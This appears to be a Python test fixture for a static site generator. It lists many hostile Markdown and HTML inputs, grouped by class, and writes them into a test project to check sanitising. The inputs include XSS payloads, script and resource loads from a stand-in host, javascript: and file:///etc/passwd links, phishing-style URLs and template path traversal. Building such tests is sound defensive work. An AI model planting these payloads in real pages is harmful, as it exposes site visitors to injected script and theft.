"""Markdown that tries to run, to load, to cover or to break the frame: our own list, by the known classes."""

from __future__ import annotations

import shutil
from collections.abc import Mapping
from pathlib import Path

from generator.site.project import CHECKOUT, Project

RUN = "alert(1)"
TARGET = "//outside.example"

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script src='https:{TARGET}/x.js'></script>",
    f"<script src={TARGET}/x.js></script>",
    "<script src='../data/index.json'></script>",
    f"<script type=module>{RUN}</script>",
    f"<script>{RUN}",
    f"<script/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>",
    f"text <script\n>{RUN}</script\n> text",
    f"<script>{RUN}</script\t>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<template><script>{RUN}</script></template>",
    f"<div><script>{RUN}</script></div>",
    f"<p markdown='1'><script>{RUN}</script></p>",
    f"> <script>{RUN}</script>",
    f"- item\n\n    <script>{RUN}</script>\n\n<script>{RUN}</script>",
    f"# <script>{RUN}</script>",
    f"| a | b |\n|---|---|\n| <script>{RUN}</script> | <img src=x onerror={RUN}> |",
    f'!!! note "<script>{RUN}</script>"\n    <script>{RUN}</script>',
    f"<xss><script>{RUN}</script></xss>",
]

HANDLERS = [
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}' />",
    f"<IMG SRC=x ONERROR={RUN}>",
    f"<img src=x\nonerror\n=\n{RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src='x'onerror={RUN}>",
    f'<img """><img src=x onerror={RUN}>">',
    f"<img src=`x` onerror=`{RUN}`>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<html onmouseover={RUN}>",
    f"<p onmouseover={RUN}>over</p>",
    f"<p onclick={RUN}>click</p>",
    f"<a href='#' onclick={RUN}>click</a>",
    f"<a onfocus={RUN} autofocus tabindex=1>focus</a>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<button autofocus onfocus={RUN}>b</button>",
    f"<details open ontoggle={RUN}><summary>s</summary></details>",
    f"<video src=x onerror={RUN}></video>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>m</marquee>",
    f"<div style='animation:x' onanimationstart={RUN}></div>",
    f"<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationend={RUN}>",
    f"<p onpointerrawupdate={RUN} onpointerover={RUN}>p</p>",
    f"<p contenteditable onblur={RUN} onbeforeinput={RUN}>p</p>",
    f"<dialog open oncancel={RUN} onclose={RUN}>d</dialog>",
    f"<p popover onbeforetoggle={RUN}>p</p>",
    f"<x onclick={RUN} style=display:block>unknown</x>",
    f"<h2 onmouseenter={RUN}>heading</h2>",
]

FOREIGN = [
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='data:text/javascript,{RUN}'/></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=20>x</text></a></svg>",
    f"<svg><set attributeName=onmouseover to={RUN} />",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'/></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><desc><noscript></desc><img src=x onerror={RUN}></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style>",
    f"<math href='javascript:{RUN}'>click</math>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<math></br><img src=x onerror={RUN}>",
    f"<svg><title><![CDATA[</title><img src=x onerror={RUN}>]]></svg>",
]

LOADERS = [
    f"<img src='https:{TARGET}/a.png'>",
    f"<img src='{TARGET}/a.png'>",
    f"<img srcset='https:{TARGET}/a.png 1x'>",
    f"<picture><source srcset='{TARGET}/a.png'><img src=x></picture>",
    f"![x](https:{TARGET}/a.png)",
    f"![x]({TARGET}/a.png)",
    "![x](\\\\outside.example/a.png)",
    f"![x][p]\n\n[p]: {TARGET}/a.png",
    "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    f"<link rel=stylesheet href='https:{TARGET}/a.css'>",
    f"<link rel=preload as=script href='https:{TARGET}/a.js'>",
    f"<link rel=dns-prefetch href='{TARGET}'><link rel=preconnect href='https:{TARGET}'>",
    f"<link rel=icon href='https:{TARGET}/a.ico'>",
    f"<style>@import 'https:{TARGET}/a.css'; body {{ background: url({TARGET}/a.png) }}</style>",
    f"<p style='background:url({TARGET}/a.png)'>p</p>",
    f"<p style=\"background:url('javascript:{RUN}')\">p</p>",
    f"<table background='{TARGET}/a.png'><tr><td background='{TARGET}/b.png'>x</td></tr></table>",
    f"<body background='{TARGET}/a.png'>",
    f"<video poster='{TARGET}/a.png' src='{TARGET}/a.mp4' autoplay></video>",
    f"<audio src='{TARGET}/a.mp3' autoplay></audio>",
    f"<track src='{TARGET}/a.vtt'>",
    f"<iframe src='https:{TARGET}/'></iframe>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe srcdoc='&lt;img src=x onerror={RUN}&gt;'></iframe>",
    f"<frameset onload={RUN}><frame src='javascript:{RUN}'></frameset>",
    f"<object data='https:{TARGET}/x.swf'></object>",
    f"<object data='javascript:{RUN}'></object>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<embed src='https:{TARGET}/x.pdf'>",
    f"<embed src='javascript:{RUN}'>",
    f"<applet code=x codebase='https:{TARGET}/'></applet>",
    f"<portal src='https:{TARGET}/'></portal>",
    f"<input type=image src='{TARGET}/a.png' onerror={RUN}>",
    f"<a href='../fees/' ping='https:{TARGET}/'>ping</a>",
]

PAGES_AND_FORMS = [
    f"<base href='https:{TARGET}/'>",
    f"<base target=_blank href={TARGET}>",
    f"<meta http-equiv=refresh content='0;url=https:{TARGET}/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{RUN}</script>'>",
    f'<META HTTP-EQUIV=Refresh CONTENT="0; URL=https:{TARGET}/">',
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<meta name=referrer content=unsafe-url>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    f"<form action='https:{TARGET}/'><input name=id><button>ok</button></form>",
    f"<form action='javascript:{RUN}'><button>ok</button></form>",
    f"<form id=f></form><button form=f formaction='javascript:{RUN}'>ok</button>",
    f"<isindex type=image src={TARGET}/1 onerror={RUN}>",
    "</main></div></article></body></html><h1>took the page over</h1>",
    "</article></div><div class='masthead'><a class='school' href='#'>another school</a></div>",
    "<div class='skip ribbon colophon sections masthead'>covers</div>",
    "<div style='position:fixed;inset:0;z-index:9999;background:#fff'>covers</div>",
    "<div data-filter='content' data-palette='a|b' data-print data-copy='content'>hooks</div>",
    "<form data-filter='content'><select name='x'></select></form>",
    "<p id='content'>clobber</p><p id='sections'>clobber</p>",
    "<img name=getElementById><form name=body><input name=children></form>",
]

LINKS = [
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x]( javascript:{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x](<java\tscript:{RUN}>)",
    f"[x](java&#10;script:{RUN})",
    f"[x](java&Tab;script:{RUN})",
    f"[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{RUN})",
    f"[x](&#x6a;avascript&colon;{RUN})",
    f"[x](\x01javascript:{RUN})",
    f"[x](vbscript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[x](blob:https:{TARGET}/1)",
    "[x](file:///etc/passwd)",
    f"[x](view-source:https:{TARGET}/)",
    f"[x]({TARGET}/)",
    "[x](/\\outside.example/)",
    "[x](\\\\outside.example/)",
    "[x](https:outside.example/)",
    f"[x](http:{TARGET}/)",
    "[x](https://bank.example@outside.example/)",
    "[x](https://user:word@outside.example/)",
    "[x](https://bаnk.example/)",
    "[x](https://outside.example:8443/)",
    f"[x][y]\n\n[y]: javascript:{RUN}",
    f'[x][y]\n\n[y]: <javascript:{RUN}> "title"',
    f"<javascript:{RUN}>",
    f'<https://outside.example/"onmouseover={RUN}>',
    f"<a href='javascript:{RUN}'>x</a>",
    f"<a href=' &#14; javascript:{RUN}'>x</a>",
    f"<a href='java\nscript:{RUN}'>x</a>",
    f"<a href=javascript&colon;{RUN}>x</a>",
    f"<a href='JAVASCRIPT:{RUN}' target=_blank>x</a>",
    f"<area href='javascript:{RUN}' shape=default>",
    f'[x](https://outside.example/"onclick="{RUN})',
    f'[x](https://outside.example/ "t\\" onclick={RUN} x=\\"")',
    f'![x" onerror="{RUN}](x)',
    f'![x](x"onerror="{RUN})',
    f"[![x](javascript:{RUN})](javascript:{RUN})",
    f"[a](javascript://outside.example/%0a{RUN})",
    f"[x](mailto:a@b.example?body=<script>{RUN}</script>)",
    f"[x](tel:1'onclick='{RUN})",
]

ATTRIBUTES = [
    f'# heading {{: onclick="{RUN}" onmouseover="{RUN}" }}',
    f"text {{: onclick={RUN} }}",
    f"[x](../fees/){{: onclick={RUN} href=javascript:{RUN} }}",
    f'[x](../fees/){{: href="javascript:{RUN}" target=_blank ping=https:{TARGET}/ }}',
    f"![x](x.png){{: onerror={RUN} src=https:{TARGET}/a.png srcset=https:{TARGET}/b.png }}",
    f'*x*{{: style="background:url({TARGET}/a.png)" }}',
    "# heading {: #content .ribbon .skip style=position:fixed }",
    f"`x`{{: onmouseover='{RUN}' id='\"><script>{RUN}</script>' }}",
    f"| a |\n|---|\n| x {{: onclick={RUN} }} |",
    '# heading {: id="a b\'c<d" }',
]

SLOTS = [
    "<!--slot:content-->",
    "text <!--slot:content--> text <!--slot:name-->",
    "# <!--slot:title-->",
    "`<!--slot:content-->`",
    "    <!--slot:content-->",
    '[x](../fees/ "<!--slot:content-->")',
    "<a title='<!--slot:content-->' href='../fees/'>x</a>",
    "![<!--slot:content-->](x.png)",
    "<!--slot:<!--slot:content-->content-->",
    "<!--<!--slot:content-->-->",
    "<!-<b></b>-slot:content-->",
    "&lt;!--slot:content--&gt;",
    "<!--slot:base-->/x <!--slot:url--> <!--slot:description--> <!--slot:short-->",
    '# x {: title="<!--slot:content-->" }',
]

COMMENTS = [
    f"<!-- --!><img src=x onerror={RUN}> -->",
    f"<!--> <img src=x onerror={RUN}> -->",
    f"<!-- never closed <img src=x onerror={RUN}>",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={RUN}>",
    f"<!DOCTYPE x [<!ENTITY e '<script>{RUN}</script>'>]>&e;",
    f"<title></title><img src=x onerror={RUN}></title>",
    f"<textarea></textarea><img src=x onerror={RUN}>",
    f"<xmp></xmp><img src=x onerror={RUN}>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<noembed></noembed><img src=x onerror={RUN}>",
    f"<style></style><img src=x onerror={RUN}></style>",
    f"```html\n<script>{RUN}</script>\n```",
    f"    <script>{RUN}</script>",
    f"\\<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\x02klzzwxh:0000\x03 <script>{RUN}</script>",
    f"{{{{ config }}}} {{% include '/etc/passwd' %}} <img src=x onerror={RUN}>",
    '[TOC]\n\n# <img src=x onerror=alert(1)>\n\n## "><script>alert(1)</script>',
]

FRONT = [
    f"---\ntitle: </title><script>{RUN}</script>\n---\ntext",
    f"---\ndescription: '\"><script>{RUN}</script>'\n---\n# x",
    "---\ntemplate: base.html\n---\n# x",
    "---\ntemplate: ../../../../etc/passwd\n---\n# x",
    "---\nsection: fees\nframe: true\n---\n# x",
    "---\ntitle: <!--slot:content-->\ndescription: <!--slot:content-->\n---\n# x",
    "---\ntitle: [a, b]\ndescription: {a: b}\n---\n# x",
    "---\nhide: [navigation]\nsearch: {boost: 2}\nicon: x\nstatus: new\n---\n# x",
]

CLASSES = {
    "scripts": SCRIPTS, "handlers": HANDLERS, "foreign": FOREIGN, "loaders": LOADERS, "pages": PAGES_AND_FORMS,
    "links": LINKS, "attributes": ATTRIBUTES, "slots": SLOTS, "comments": COMMENTS, "front": FRONT,
}  # fmt: skip

PAGES = {
    f"{name}-{number:02}": text if text.startswith("---") else f"{text}\n\nlast word\n"
    for name, texts in CLASSES.items()
    for number, text in enumerate(texts)
}
"""Each page by its name, which says its class."""


def project(root: Path, pages: Mapping[str, str] = PAGES) -> Project:
    """Return a frame of its own, with the hand-written pages of this one and the given ones."""
    shutil.copytree(CHECKOUT / "docs/zh", root / "docs/zh")
    settings = (CHECKOUT / "mkdocs.yml").read_text(encoding="utf-8")
    (root / "mkdocs.yml").write_text(settings.replace(" generator/", f" {CHECKOUT}/generator/"), encoding="utf-8")
    for name, text in pages.items():
        (root / "docs/zh" / f"{name}.md").write_text(text, encoding="utf-8")
    return Project(root)
